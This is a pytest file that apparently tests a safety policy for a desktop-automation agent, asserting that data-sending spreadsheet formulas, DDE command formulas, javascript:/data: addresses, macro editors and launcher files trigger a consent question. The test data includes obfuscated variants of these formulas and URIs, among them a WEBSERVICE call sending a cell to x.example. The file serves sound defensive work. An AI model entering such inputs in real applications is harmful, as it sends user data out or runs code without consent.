"""Text is judged by where it goes, by every route: cells reckon it, an address bar opens it, a console runs it."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from tests.known_tools import facts
from tests.tools.policy.test_policy import Judge
from ufo.desktop.fake import Widget
from ufo.desktop.fake.spec import button, document, edit
from ufo.desktop.snapshot import Element
from ufo.schema.action_class import ActionClass
from ufo.schema.command import Command
from ufo.schema.tool import ToolInfo

_SENDS = '=WEBSERVICE("http://x.example/"&A1)'


@pytest.fixture
def judge(tmp_path: Path) -> Judge:
    return Judge(tmp_path)


async def _sheet(judge: Judge, value: str = "") -> None:
    cells = Widget("cells", "Table", "Cells", rows=(("1", "2"), ("3", "4")))
    await judge.show(edit("line", "Input line", value), cells, title="Untitled 1", categories=("Office", "Spreadsheet"))


@pytest.mark.parametrize(
    ("tool", "parameters"),
    [
        ("set_edit_text", {"text": _SENDS}),
        ("set_value", {"value": _SENDS}),
        ("keyboard_input", {"keys": "=WEBSERVICE{(}A1{)}"}),
        ("keyboard_input", {"keys": "={VK_SHIFT}w{VK_SHIFT}ebservice{(}A1{)}{ENTER}"}),
        ("keyboard_input", {"keys": "={VK_SHIFT down}webservice9{VK_SHIFT up}A1+0"}),
        ("keyboard_input", {"keys": "1{TAB}=WEBSERVICE{(}A1{)}{ENTER}"}),
        ("keyboard_input", {"keys": "=webs{ENTER}A1{)}{ENTER}"}),
    ],
)
async def test_a_formula_is_judged_however_it_is_written(
    judge: Judge, tool: str, parameters: dict[str, object]
) -> None:
    await _sheet(judge)
    verdict = await judge.of_control("Input line", tool, **parameters)
    assert (verdict.decision, verdict.action_class) == ("ask", ActionClass.SEND)
    assert "a formula that reaches a server or another file" in verdict.question


async def test_a_form_is_filled_with_a_formula_only_after_a_question(judge: Judge) -> None:
    await _sheet(judge)
    for field in ({"id": judge.bench.id_of("Input line"), "value": _SENDS}, {"name": "Input line", "value": _SENDS}):
        assert (await judge.of("fill", fields=[field])).action_class is ActionClass.SEND


async def test_tools_of_the_office_that_write_cells_are_judged_by_what_they_write(judge: Judge) -> None:
    await _sheet(judge)
    assert (await judge.of("write_cell", cell="B1", content=_SENDS)).action_class is ActionClass.SEND
    assert (await judge.of("insert_excel_table", table=[["a"], [_SENDS]])).action_class is ActionClass.SEND
    assert (await judge.of("write_cell", cell="B1", content="=cmd|'/c x'!A0")).action_class is ActionClass.RUN_PROGRAM
    assert (await judge.of("write_cell", cell="B1", content="=SUM(A1:A9)")).decision == "allow"
    assert (await judge.of("write_cell", cell="B1", content=7)).decision == "allow"
    rule = {"validation": "formula", "validation value": _SENDS}
    assert (await judge.of("set_property", properties=rule, cells="B1")).action_class is ActionClass.SEND
    await judge.show(document("text", "Text"), title="Letter", categories=("Office", "WordProcessor"))
    assert (await judge.of("edit_paragraph", action="after", text="- call (Ada)")).decision == "allow"


async def test_a_formula_in_two_halves_is_one_formula(judge: Judge) -> None:
    await _sheet(judge, "=WEBSER")
    assert (await judge.of_control("Input line", "set_edit_text", text="VICE(A1)")).action_class is ActionClass.SEND
    assert (await judge.of("keyboard_input", keys="VICE{(}A1{)}{ENTER}")).action_class is ActionClass.SEND
    await _sheet(judge)
    half = Command(tool_name="keyboard_input", parameters={"keys": "=WEBSER"})
    rest = Command(tool_name="keyboard_input", parameters={"keys": "VICE{(}A1{)}"})
    info = ToolInfo(tool_name="keyboard_input", namespace="Any", tool_type="action", facts=facts("keyboard_input"))
    assert (await judge.policy.verdict(rest, info)).decision == "allow"
    assert (await judge.policy.verdict(rest, info, [half])).action_class is ActionClass.SEND


async def test_what_the_clipboard_holds_is_judged_where_it_is_pasted(judge: Judge) -> None:
    await _sheet(judge)
    judge.bench.desktop.world.clipboard = _SENDS
    for keys in ("^v", "+{INSERT}", "^+v", "^v{ENTER}"):
        assert (await judge.of("keyboard_input", keys=keys)).action_class is ActionClass.SEND, keys
    await judge.show(button("paste", "Paste"), title="Untitled 1", categories=("Office", "Spreadsheet"))
    assert (await judge.of_control("Paste")).action_class is ActionClass.SEND
    judge.bench.desktop.world.clipboard = "=SUM(A1:A3)\t12"
    assert (await judge.of_control("Paste")).decision == "allow"
    assert (await judge.of("keyboard_input", keys="^v")).decision == "allow"


async def test_ordinary_work_in_a_sheet_needs_no_question(judge: Judge) -> None:
    await _sheet(judge, "=SUM(A1:A2)")
    for keys in ("12{ENTER}", "=A1*2{ENTER}", "Total{TAB}=SUM{(}A1:A3{)}{ENTER}", "{ENTER}", "-5{ENTER}", "^c", "^v"):
        assert (await judge.of("keyboard_input", keys=keys)).decision == "allow", keys
    await judge.show(edit("note", "Note"), title="Notes", categories=("TextEditor",))
    assert (await judge.of_control("Note", "set_edit_text", text="- call (Ada)\nWEBSERVICE is one")).decision == "allow"


async def _browser(judge: Judge, address: str = "") -> None:
    page = Widget("page", "Document", "Page", children=(edit("field", "Your name"),))
    bar = edit("bar", "Adress- und Suchleiste", address)
    await judge.show(bar, page, title="A page - Chromium", categories=("Network", "WebBrowser"))
    selection = judge.bench.selection
    assert selection.snapshot is not None
    inner = next(element for element in selection.snapshot if element.name == "Your name")
    selection.snapshot = replace(
        selection.snapshot, elements=tuple(_holding(element, inner) for element in selection.snapshot.elements)
    )


def _holding(element: Element, inner: Element) -> Element:
    if element.role == "Document":
        return replace(element, rect=inner.rect, depth=inner.depth - 1)
    return element


@pytest.mark.parametrize(
    "text",
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "  javascript:alert(1)", "java\nscript:alert(1)", "java\tscript:x",
        "\u200bjavascript:alert(1)", "javascript&colon;alert(1)".replace("&colon;", ":"), "javascript%3Aalert(1)",
        "hello javascript:alert(1)", "data:text/html,<b>x", "DATA:text/html;base64,PGI+", "view-source:http://x.example",
        "chrome://settings/reset", "chrome://settings/clearBrowserData", "chrome://restart", "about:config",
        "about:flags", "vbscript:x", "smb:///etc/passwd#x:y",
        "moz-extension://x", "blob:http://x", "x.example\njavascript:alert(1)", "https://me:pin@x.example/",
    ],
)  # fmt: skip
async def test_a_scheme_that_runs_something_is_asked_about_in_an_address_bar(judge: Judge, text: str) -> None:
    await _browser(judge)
    typed = text.replace("(", "{(}").replace(")", "{)}").replace("%", "{%}").replace("+", "{+}")
    assert (await judge.of_control("Adress- und Suchleiste", "set_edit_text", text=text)).needs_consent
    assert (await judge.of("keyboard_input", keys=f"^l{typed}{{ENTER}}")).needs_consent
    judge.bench.desktop.world.clipboard = text
    assert (await judge.of("keyboard_input", keys="^l^v{ENTER}")).needs_consent
    if "\n" not in text:
        await _browser(judge, text)
        bar = judge.bench.id_of("Adress- und Suchleiste")
        assert (await judge.of("keyboard_input", id=bar, keys="{ENTER}")).needs_consent


async def test_an_address_in_two_halves_is_one_address(judge: Judge) -> None:
    await _browser(judge, "java")
    verdict = await judge.of_control("Adress- und Suchleiste", "set_edit_text", text="script:alert(1)")
    assert verdict.action_class is ActionClass.RUN_PROGRAM


async def test_what_goes_into_another_field_of_the_page_is_no_part_of_the_address(judge: Judge) -> None:
    await _browser(judge)
    page, bar = judge.bench.id_of("Your name"), judge.bench.id_of("Adress- und Suchleiste")
    info = ToolInfo(tool_name="set_edit_text", namespace="Any", tool_type="action", facts=facts("set_edit_text"))

    def writes(control: str, text: str) -> Command:
        return Command(tool_name="set_edit_text", parameters={"id": control, "text": text})

    other, rest = writes(page, "javascript:"), writes(bar, "x.example")
    assert (await judge.policy.verdict(rest, info, [other])).decision == "allow"
    assert (
        await judge.policy.verdict(rest, info, [writes(bar, "javascript:")])
    ).action_class is ActionClass.RUN_PROGRAM
    blind = Command(tool_name="keyboard_input", parameters={"keys": "javascript:"})
    assert (await judge.policy.verdict(rest, info, [blind])).action_class is ActionClass.RUN_PROGRAM


@pytest.mark.parametrize(
    "text",
    ["x.example", "chrome://settings/appearance", "chrome://downloads/", "https://x.example/a?b=c", "localhost:8000/a",
     "about:blank", "weather tomorrow", "define: word",
     "site:x.example cats", "meeting at 10:30", "what is this: a question", "10:30", "python dict.get"],
)  # fmt: skip
async def test_pages_and_searches_are_typed_without_a_question(judge: Judge, text: str) -> None:
    await _browser(judge)
    assert (await judge.of_control("Adress- und Suchleiste", "set_edit_text", text=text)).decision == "allow"
    assert (await judge.of("keyboard_input", keys=f"^l{text}{{ENTER}}")).decision == "allow"


async def test_in_a_field_of_a_page_an_address_is_only_a_text(judge: Judge) -> None:
    await _browser(judge)
    assert (await judge.of_control("Your name", "set_edit_text", text="data: 5 apples")).decision == "allow"


@pytest.mark.parametrize("keys", ["{F12}", "^+i", "{VK_CONTROL}{VK_SHIFT}j", "{VK_SHIFT}{VK_CONTROL}k", "^+c", "^u"])
async def test_keys_of_the_developer_tools_are_asked_about_in_a_browser_alone(judge: Judge, keys: str) -> None:
    await _browser(judge)
    assert (await judge.of("keyboard_input", keys=keys)).action_class is ActionClass.RUN_PROGRAM
    await judge.show(document("text", "Text"), title="Notes", categories=("TextEditor",))
    assert (await judge.of_control("Text", "keyboard_input", keys=keys)).action_class is ActionClass.EDIT


async def test_macros_and_basic_windows_are_asked_about(judge: Judge) -> None:
    await judge.show(
        document("text", "Text"), title="Report - LibreOffice Writer", categories=("Office", "WordProcessor")
    )
    assert (await judge.of("keyboard_input", keys="%{F11}")).action_class is ActionClass.RUN_PROGRAM
    assert (await judge.of("visit", path=["Tools", "Macros", "Run Macro…"])).action_class is ActionClass.RUN_PROGRAM
    assert (await judge.of_control("Text", "keyboard_input", keys="about macros")).decision == "allow"
    await judge.show(
        document("text", "Code"),
        button("run", "Run"),
        title="x.odt.Standard - LibreOffice Basic",
        categories=("Office",),
    )
    assert (await judge.of_control("Code", "keyboard_input", keys="Shell x")).action_class is ActionClass.RUN_PROGRAM
    assert (await judge.of_control("Code", "set_edit_text", text="Sub Main")).action_class is ActionClass.RUN_PROGRAM
    assert (await judge.of("keyboard_input", keys="{F5}")).action_class is ActionClass.RUN_PROGRAM
    assert (await judge.of_control("Run")).action_class is ActionClass.RUN_PROGRAM


async def test_a_path_in_a_dialog_that_opens_is_judged_as_a_document(judge: Judge, tmp_path: Path) -> None:
    (tmp_path / "x.desktop").write_text("[Desktop Entry]")
    (tmp_path / "notes.txt").write_text("hello")
    dialog = Widget("dialog", "Dialog", "Open File", children=(edit("name", "Name"),))
    await judge.show(dialog, title="Office", categories=("Office",))
    for text in ("x.desktop", str(tmp_path / "x.desktop"), "macro:///a.b.c", "vnd.sun.star.script:x"):
        assert (await judge.of_control("Name", "set_edit_text", text=text)).needs_consent, text
    for text in ("notes.txt", "nowhere.txt", "hello"):
        assert (await judge.of_control("Name", "set_edit_text", text=text)).decision == "allow", text
    await judge.show(edit("place", "Location"), title="Files", categories=("FileManager",))
    assert (
        await judge.of_control("Location", "set_edit_text", text="x.desktop")
    ).action_class is ActionClass.RUN_PROGRAM
    assert (await judge.of_control("Location", "set_edit_text", text=str(tmp_path))).decision == "allow"
